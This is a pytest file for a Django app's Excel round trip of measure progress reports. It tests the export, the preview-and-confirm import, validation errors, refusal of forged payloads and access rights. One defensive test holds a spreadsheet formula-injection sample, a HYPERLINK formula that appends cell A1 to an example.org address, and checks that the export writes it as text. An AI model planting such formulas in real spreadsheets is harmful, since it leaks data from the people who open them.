"""Excel round trip: a real XLSX written, edited with openpyxl, read back; all or nothing."""

import datetime
import io
import re
from typing import Any

import pytest
from conftest import World
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from django.urls import reverse
from django.utils import timezone, translation
from openpyxl import Workbook, load_workbook

from teilhabe.concepts import services as concept_services
from teilhabe.concepts.models import Measure
from teilhabe.tracking import services, xlsx
from teilhabe.tracking.models import ProgressUpdate, StatusOption
from teilhabe.tracking.selectors import measure_states

pytestmark = pytest.mark.django_db


@pytest.fixture
def second(world: World) -> Measure:
    a = world.a
    return concept_services.item_create(
        user=world.users["coordinator_a"],
        model=Measure,
        edition=a.in_force,
        data={"field": a.items["field"], "title": "Lotsenprojekt Alpha", "lead_actor": a.partner},
    )


def status(world: World, code: str) -> StatusOption:
    return StatusOption.objects.get(body=world.a.body, code=code)


def url(world: World, name: str) -> str:
    return reverse(f"tracking:{name}", kwargs={"body": world.a.body.slug})


def english(client: Client) -> Client:
    client.cookies["django_language"] = "en"
    return client


def exported(world: World, client: Client) -> Any:
    response = client.get(url(world, "xlsx_export"))
    assert response.status_code == 200
    assert response["Content-Type"] == xlsx.CONTENT_TYPE
    return load_workbook(io.BytesIO(response.content))


def to_bytes(book: Any) -> bytes:
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def upload(client: Client, world: World, data: bytes, name: str = "liste.xlsx") -> Any:
    return client.post(url(world, "xlsx_import"), {"file": SimpleUploadedFile(name, data)})


def payload_of(html: str) -> str:
    match = re.search(r'name="payload" value="([^"]+)"', html)
    assert match, html
    return match.group(1)


def test_export_lists_measures_with_their_last_status(
    world: World, second: Measure, client_for: Any
) -> None:
    last = timezone.localdate() - datetime.timedelta(days=20)
    services.progress_record(
        user=world.users["coordinator_a"],
        measure=world.a.items["measure"],
        date=last,
        status=status(world, "in_progress"),
        percent=55,
        narrative="Zwei Kurse laufen",
    )
    book = exported(world, client_for("contributor_a"))
    sheet, statuses = book.worksheets
    rows = list(sheet.iter_rows(values_only=True))
    assert len(rows) == 3  # header and both measures of the edition in force
    first = rows[1]
    assert first[0] == world.a.items["measure"].key
    assert first[1] == world.a.items["field"].title
    assert first[2] == "Sprachcafé Alpha"
    assert first[3] == "Fachdienst Migration Alpha"
    assert first[4] == status(world, "in_progress").label
    assert first[5] == 55
    assert first[6].date() == last
    assert first[7] == "Zwei Kurse laufen"
    assert rows[2][2] == "Lotsenprojekt Alpha" and rows[2][6] is None
    labels = [r[0] for r in statuses.iter_rows(min_row=2, values_only=True)]
    assert labels == [o.label for o in StatusOption.objects.filter(body=world.a.body)]
    assert sheet.data_validations.dataValidation  # the status column offers the list
    assert "ENTWURF" not in str(rows)  # the draft's measures are not in it


def test_round_trip_preview_and_confirm(world: World, second: Measure, client_for: Any) -> None:
    client = client_for("coordinator_a")
    book = exported(world, client)
    sheet = book.worksheets[0]
    done = status(world, "implemented")
    sheet["E2"] = done.label
    sheet["F2"] = 100
    sheet["G2"] = timezone.localdate() - datetime.timedelta(days=2)
    sheet["H2"] = "Abgeschlossen mit 40 Teilnehmenden"
    # row 3 stays as exported: unchanged, skipped
    response = upload(client, world, to_bytes(book))
    html = response.content.decode()
    assert response.status_code == 200
    assert "Abgeschlossen mit 40 Teilnehmenden" in html
    assert done.label in html and "Lotsenprojekt Alpha" not in html
    assert ProgressUpdate.objects.count() == 0  # the preview writes nothing

    confirm = client.post(url(world, "xlsx_import"), {"payload": payload_of(html)})
    assert confirm.status_code == 302
    update = ProgressUpdate.objects.get()
    assert update.measure == world.a.items["measure"]
    assert (update.status, update.percent) == (done, 100)
    assert update.date == timezone.localdate() - datetime.timedelta(days=2)
    assert update.state == ProgressUpdate.State.ACCEPTED
    assert update.source == ProgressUpdate.Source.IMPORT
    state = measure_states(world.a.in_force, today=timezone.localdate())[update.measure_id]
    assert state.percent == 100 and state.update == update
    # the same payload a second time: the record moved on, nothing is written twice
    again = client.post(url(world, "xlsx_import"), {"payload": payload_of(html)})
    assert again.status_code == 200 and ProgressUpdate.objects.count() == 1


def test_changed_row_without_new_date_gets_today(world: World, second: Measure) -> None:
    book = Workbook()
    sheet = book.active
    sheet.append(["Schlüssel", "Status", "Fortschritt", "Stand", "Sachstand"])  # German headers
    sheet.append([second.key, status(world, "preparing").code, 10, None, "Start im Mai"])
    plan = xlsx.xlsx_parse(edition=world.a.in_force, data=to_bytes(book))
    assert [(c.key, c.percent, c.new_date) for c in plan.changes] == [
        (second.key, 10, timezone.localdate())
    ]


def invalid_book(world: World, second: Measure) -> bytes:
    measure = world.a.items["measure"]
    label = status(world, "planned").label
    book = Workbook()
    sheet = book.active
    sheet.append(["Key", "Measure", "Status", "Progress (%)", "Report date", "Report"])
    sheet.append([measure.key, "x", label, 50, None, "gut"])  # row 2: valid
    sheet.append([measure.key, "x", label, 50, None, ""])  # row 3: duplicate key
    sheet.append(["gibt-es-nicht", "x", label, 50, None, ""])  # row 4: unknown key
    sheet.append([second.key, "x", "irgendwie", 50, None, ""])  # row 5: unknown status
    sheet.append([second.key + "-b", "x", label, 50, None, ""])  # row 6: unknown key
    sheet.append([second.key, "x", label, 120, None, ""])  # row 7: percent
    sheet.append([second.key, "x", label, "viel", "gestern", ""])  # row 8: not int, no date
    future = timezone.localdate() + datetime.timedelta(days=3)
    sheet.append([second.key, "x", label, 12.5, future, ""])  # row 9: fraction, future
    return to_bytes(book)


def test_every_error_names_row_and_column(world: World, second: Measure) -> None:
    with translation.override("en"), pytest.raises(ValidationError) as error:
        xlsx.xlsx_parse(edition=world.a.in_force, data=invalid_book(world, second))
    messages = error.value.messages
    text = "\n".join(messages)
    assert "Row 3, column Key: „" in text and "appears already in row 2" in text
    assert "Row 4, column Key: „gibt-es-nicht“ is not the key of a measure" in text
    assert "Row 5, column Status: „irgendwie“ is not a status of the list" in text
    assert "Row 7, column Progress (%): 120 is not between 0 and 100." in messages
    assert "Row 8, column Progress (%): „viel“ is not a whole number." in messages
    assert "Row 8, column Report date: „gestern“ is not a date" in text
    assert "Row 9, column Progress (%): „12.5“ is not a whole number." in messages
    assert "Row 9, column Report date:" in text and "lies in the future" in text
    assert not any(m.startswith("Row 2,") for m in messages)


def test_invalid_file_writes_nothing_and_shows_the_errors(
    world: World, second: Measure, client_for: Any
) -> None:
    client = english(client_for("coordinator_a"))
    response = upload(client, world, invalid_book(world, second))
    html = response.content.decode()
    assert response.status_code == 200
    assert "Row 7, column Progress (%): 120 is not between 0 and 100." in html
    assert 'name="payload"' not in html
    assert ProgressUpdate.objects.count() == 0


def test_missing_columns_and_non_excel_files(world: World) -> None:
    book = Workbook()
    book.active.append(["Key", "Status"])
    with translation.override("en"), pytest.raises(ValidationError) as error:
        xlsx.xlsx_parse(edition=world.a.in_force, data=to_bytes(book))
    text = " ".join(error.value.messages)
    assert "Row 1" in text and "Progress (%)" in text and "Report date" in text
    with translation.override("en"), pytest.raises(ValidationError) as error:
        xlsx.xlsx_parse(edition=world.a.in_force, data=b"ags;wert\r\n03999;1\r\n")
    assert error.value.messages == ["The file is not an Excel workbook (.xlsx)."]


def test_date_before_the_last_report_is_refused(world: World) -> None:
    measure = world.a.items["measure"]
    services.progress_record(
        user=world.users["coordinator_a"],
        measure=measure,
        date=timezone.localdate() - datetime.timedelta(days=5),
        status=status(world, "in_progress"),
        percent=50,
    )
    book = Workbook()
    book.active.append(["Key", "Status", "Progress (%)", "Report date", "Report"])
    old = timezone.localdate() - datetime.timedelta(days=50)
    book.active.append([measure.key, status(world, "implemented").label, 100, old, ""])
    with translation.override("en"), pytest.raises(ValidationError) as error:
        xlsx.xlsx_parse(edition=world.a.in_force, data=to_bytes(book))
    assert "Row 2, column Report date:" in error.value.messages[0]
    assert "before the last report" in error.value.messages[0]


def test_concurrent_update_between_preview_and_confirm_writes_nothing(
    world: World, second: Measure, client_for: Any
) -> None:
    client = client_for("coordinator_a")
    book = exported(world, client)
    sheet = book.worksheets[0]
    sheet["F2"], sheet["F3"] = 80, 20
    html = upload(client, world, to_bytes(book)).content.decode()
    # meanwhile somebody records a Sachstand for the second measure
    services.progress_record(
        user=world.users["coordinator_a2"],
        measure=second,
        date=timezone.localdate(),
        status=status(world, "preparing"),
        percent=5,
    )
    response = client.post(url(world, "xlsx_import"), {"payload": payload_of(html)})
    assert response.status_code == 200
    assert ProgressUpdate.objects.count() == 1  # only the concurrent one; the import wrote none


def test_forged_payload_and_other_users_are_refused(
    world: World, second: Measure, client_for: Any
) -> None:
    client = client_for("coordinator_a")
    book = exported(world, client)
    book.worksheets[0]["F2"] = 90
    payload = payload_of(upload(client, world, to_bytes(book)).content.decode())
    forged = payload[:-3] + ("AAA" if not payload.endswith("AAA") else "BBB")
    assert client.post(url(world, "xlsx_import"), {"payload": forged}).status_code == 200
    other = client_for("superuser")  # a coordinator everywhere, but not who previewed
    assert other.post(url(world, "xlsx_import"), {"payload": payload}).status_code == 200
    assert ProgressUpdate.objects.count() == 0
    assert client.post(url(world, "xlsx_import"), {"payload": payload}).status_code == 302
    assert ProgressUpdate.objects.count() == 1


def test_import_is_for_coordinators_export_for_members(world: World, client_for: Any) -> None:
    assert client_for("contributor_a").get(url(world, "xlsx_import")).status_code == 403
    assert client_for("council_a").get(url(world, "xlsx_export")).status_code == 200
    assert client_for("coordinator_b").get(url(world, "xlsx_export")).status_code == 403
    assert client_for("anonymous").get(url(world, "xlsx_export")).status_code == 302


def test_export_writes_texts_as_texts_never_as_formulas(world: World, client_for: Any) -> None:
    """A report (e.g. from a survey answer) starting with ``=`` must not become a formula
    that runs in the coordinator's Excel; the round trip keeps the text."""
    formula = '=HYPERLINK("https://example.org/?q="&A1,"Details")'
    services.progress_record(
        user=world.users["coordinator_a"],
        measure=world.a.items["measure"],
        date=timezone.localdate() - datetime.timedelta(days=3),
        status=status(world, "in_progress"),
        percent=40,
        narrative=formula,
    )
    client = client_for("coordinator_a")
    sheet = exported(world, client).worksheets[0]
    assert sheet["H2"].data_type == "s"
    assert sheet["H2"].value == formula
    # read back unchanged: nothing to import
    plan = xlsx.xlsx_parse(edition=world.a.in_force, data=to_bytes(sheet.parent))
    assert plan.changes == [] and plan.unchanged == 1
